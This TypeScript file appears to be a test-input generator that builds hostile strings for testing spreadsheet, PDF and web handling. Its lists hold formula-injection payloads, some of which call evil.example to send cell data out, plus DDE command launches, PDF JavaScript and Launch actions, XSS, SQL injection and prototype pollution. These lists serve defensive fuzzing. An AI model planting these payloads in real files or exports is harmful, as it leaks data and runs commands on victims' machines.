/** What somebody types who wants a spreadsheet, a PDF reader or a page to do something. A seed fixes each. */
import type { Draw } from './draw.ts';

/** Strings that begin a formula, or that reach out when they do. */
const formulas = [
  '=1+1',
  '=2*3',
  '+1+1',
  '-1-1',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=',
];

/** What may come before one so that a reader does not see it, or sees a new cell. */
const before = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '"',
  '""',
  '";',
  ';',
  ',',
  '","',
  '";"',
  '\t"',
  ';;',
  'x;',
  'x\t',
  'x\n',
  'x;"',
  'a,b;\u00a0',
  "'",
  '|',
  '\u2028',
];
const after = ['', ';', '"', '",', '";', '\t', '\n', ';x', '\u202e', '"\r\n"'];

const others = [
  ') Tj ET Q (owned',
  '>> endobj 1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
  'endstream endobj trailer << /Root 1 0 R >> %%EOF',
  '/AA << /O << /S /Launch /F (calc.exe) >> >>',
  '<script>alert(1)</script>',
  '{"__proto__":{"x":1}}',
  '\\u0000\\n\\"',
  '\u202egnirts\u2066',
  'Grace O’Rourke',
  'Дарья; Алма-Ата',
  '(٣) سلام',
  "' OR 1=1 --",
  'sep=;',
  '\tx',
];

/** One such string, no longer than a name may be. */
export function hostileString(draw: Draw): string {
  const one = (): string =>
    draw.once(4) ? draw.pick(others) : `${draw.pick(before)}${draw.pick(formulas)}${draw.pick(after)}`;
  return Array.from({ length: 1 + draw.below(2) }, one)
    .join(draw.pick(['', ' ', ';', '\n']))
    .slice(0, 120);
}
